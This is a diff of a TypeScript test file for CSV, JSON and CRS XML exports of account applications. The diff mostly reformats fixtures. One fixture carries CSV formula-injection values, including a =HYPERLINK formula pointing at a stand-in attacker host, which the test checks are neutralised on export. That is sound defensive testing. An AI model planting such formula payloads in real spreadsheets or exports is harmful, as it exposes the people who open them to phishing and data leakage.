@@ -44,7 +44,19 @@ const business = (over: Record<string, unknown>) => ({
   ...over,
 });
 const application = (over: Record<string, unknown>): ExportApplication =>
-  ({ id: "app-1", accountId: "acc", name: "Ada Lovelace", email: "ada@example.com", entityType: "INDIVIDUAL", status: "APPROVED", createdAt: at, updatedAt: at, individuals: [], businesses: [], ...over }) as unknown as ExportApplication;
+  ({
+    id: "app-1",
+    accountId: "acc",
+    name: "Ada Lovelace",
+    email: "ada@example.com",
+    entityType: "INDIVIDUAL",
+    status: "APPROVED",
+    createdAt: at,
+    updatedAt: at,
+    individuals: [],
+    businesses: [],
+    ...over,
+  }) as unknown as ExportApplication;
 
 const individualApp = application({ individuals: [person({})] });
 const businessApp = application({
@@ -52,9 +64,17 @@ const businessApp = application({
   name: "Analytical Engines Ltd",
   entityType: "BUSINESS",
   businesses: [business({})],
-  individuals: [person({ id: "ind-2", applicationId: "app-2", role: "UBO", firstName: "Charles", lastName: "Babbage", ownershipPercent: 60 }), person({ id: "ind-3", applicationId: "app-2", role: "DIRECTOR", firstName: "Dee", lastName: "Rector" })],
+  individuals: [
+    person({ id: "ind-2", applicationId: "app-2", role: "UBO", firstName: "Charles", lastName: "Babbage", ownershipPercent: 60 }),
+    person({ id: "ind-3", applicationId: "app-2", role: "DIRECTOR", firstName: "Dee", lastName: "Rector" }),
+  ],
 });
-const hostile = application({ id: "app-3", name: '=HYPERLINK("http://attacker.example/?x","click")', email: "+1@example.com", individuals: [person({ id: "ind-4", applicationId: "app-3", firstName: "-2+3", lastName: "@SUM(A1)" })] });
+const hostile = application({
+  id: "app-3",
+  name: '=HYPERLINK("http://attacker.example/?x","click")',
+  email: "+1@example.com",
+  individuals: [person({ id: "ind-4", applicationId: "app-3", firstName: "-2+3", lastName: "@SUM(A1)" })],
+});
 const empty = application({ id: "app-4", name: "No Persons Yet" });
 
 /** Writes the applications as the export job does: head, one page per group, tail. */
@@ -64,7 +84,10 @@ function write(format: "CSV" | "JSON" | "CRS_XML", pages: ExportApplication[][])
 }
 
 describe("the CSV export", () => {
-  const text = write("CSV", [[individualApp, businessApp], [hostile, empty]]);
+  const text = write("CSV", [
+    [individualApp, businessApp],
+    [hostile, empty],
+  ]);
   const rows = parse(text, { columns: true }) as Record<string, string>[];
 
   it("has its header, then one row per key person and one for an application with none, CRLF-separated", () => {
@@ -77,7 +100,12 @@ describe("the CSV export", () => {
       ["app-3", "INDIVIDUAL", "'-2+3 @SUM(A1)"],
       ["app-4", "", ""],
     ]);
-    expect(rows[0]).toMatchObject({ address: "12 St James's Square, SW1Y 4JH, London, GB", tins: "GB:AB123456C", dateOfBirth: "1815-12-10", createdAt: at.toISOString() });
+    expect(rows[0]).toMatchObject({
+      address: "12 St James's Square, SW1Y 4JH, London, GB",
+      tins: "GB:AB123456C",
+      dateOfBirth: "1815-12-10",
+      createdAt: at.toISOString(),
+    });
     expect(rows[3]).toMatchObject({ registrationNumber: "01234567", country: "GB", role: "APPLICANT" });
   });
 
@@ -103,7 +131,10 @@ describe("the JSON export", () => {
 
 describe("the CRS XML export", () => {
   it("is well formed, one AccountReport per application, with markup in names escaped", () => {
-    const xml = write("CRS_XML", [[individualApp], [businessApp, application({ id: "app-5", individuals: [person({ id: "ind-5", lastName: "O'Brien & <Sons>" })] })]]);
+    const xml = write("CRS_XML", [
+      [individualApp],
+      [businessApp, application({ id: "app-5", individuals: [person({ id: "ind-5", lastName: "O'Brien & <Sons>" })] })],
+    ]);
     const lastNames = create(xml)
       .root()
       .filter((n) => n.node.nodeName === "crs:LastName", true, true)
@@ -116,16 +147,38 @@ describe("the CRS XML export", () => {
 
 describe("an account holder as CRS sees it", () => {
   it("is the applicant for an individual, resident where stated and where each TIN was issued", () => {
-    const holder = accountHolderOf(application({ individuals: [person({ residenceCountry: "FR", tins: [{ tin: "1", issuedBy: "DE" }, { tin: "", issuedBy: "IT" }] })] }));
-    expect(holder).toMatchObject({ kind: "INDIVIDUAL", person: { firstName: "Ada", residences: ["FR", "DE"], tins: [{ tin: "1", issuedBy: "DE" }], nationalities: ["GB"] } });
+    const holder = accountHolderOf(
+      application({
+        individuals: [
+          person({
+            residenceCountry: "FR",
+            tins: [
+              { tin: "1", issuedBy: "DE" },
+              { tin: "", issuedBy: "IT" },
+            ],
+          }),
+        ],
+      }),
+    );
+    expect(holder).toMatchObject({
+      kind: "INDIVIDUAL",
+      person: { firstName: "Ada", residences: ["FR", "DE"], tins: [{ tin: "1", issuedBy: "DE" }], nationalities: ["GB"] },
+    });
   });
 
   it("is the business with its UBOs and controlling persons for an entity: by ownership CRS801, otherwise CRS802; directors are not reported", () => {
     const holder = accountHolderOf(
-      application({ ...businessApp, individuals: [...businessApp.individuals, person({ id: "ind-6", role: "CONTROLLING_PERSON", firstName: "Cora", lastName: "Control" })] }),
+      application({
+        ...businessApp,
+        individuals: [...businessApp.individuals, person({ id: "ind-6", role: "CONTROLLING_PERSON", firstName: "Cora", lastName: "Control" })],
+      }),
     ) as Extract<ReturnType<typeof accountHolderOf>, { kind: "ORGANISATION" }>;
     expect(holder.acctHolderType).toBe("CRS101");
-    expect(holder.organisation).toMatchObject({ name: "Analytical Engines Ltd", residences: ["GB"], identifiers: [{ value: "01234567", issuedBy: "GB", type: "Company registration number" }] });
+    expect(holder.organisation).toMatchObject({
+      name: "Analytical Engines Ltd",
+      residences: ["GB"],
+      identifiers: [{ value: "01234567", issuedBy: "GB", type: "Company registration number" }],
+    });
     expect(holder.controllingPersons.map((c) => [c.person.lastName, c.type])).toEqual([
       ["Babbage", "CRS801"],
       ["Control", "CRS802"],
@@ -134,7 +187,10 @@ describe("an account holder as CRS sees it", () => {
 
   it("has no holder type and no controlling persons for an entity with none on file, and an empty person for an individual without an applicant", () => {
     expect(accountHolderOf(application({ ...businessApp, individuals: [] }))).toMatchObject({ acctHolderType: null, controllingPersons: [] });
-    expect(accountHolderOf(empty)).toEqual({ kind: "INDIVIDUAL", person: { firstName: null, lastName: null, residences: [], tins: [], addresses: [], nationalities: [], birthDate: null, birthCity: null } });
+    expect(accountHolderOf(empty)).toEqual({
+      kind: "INDIVIDUAL",
+      person: { firstName: null, lastName: null, residences: [], tins: [], addresses: [], nationalities: [], birthDate: null, birthCity: null },
+    });
     expect(personOf(person({ address: [{ country: "GB" }, { city: "Paris", country: "FR" }] }) as never).addresses).toEqual([
       { country: "GB", street: null, city: null, postCode: null },
       { country: "FR", street: null, city: "Paris", postCode: null },
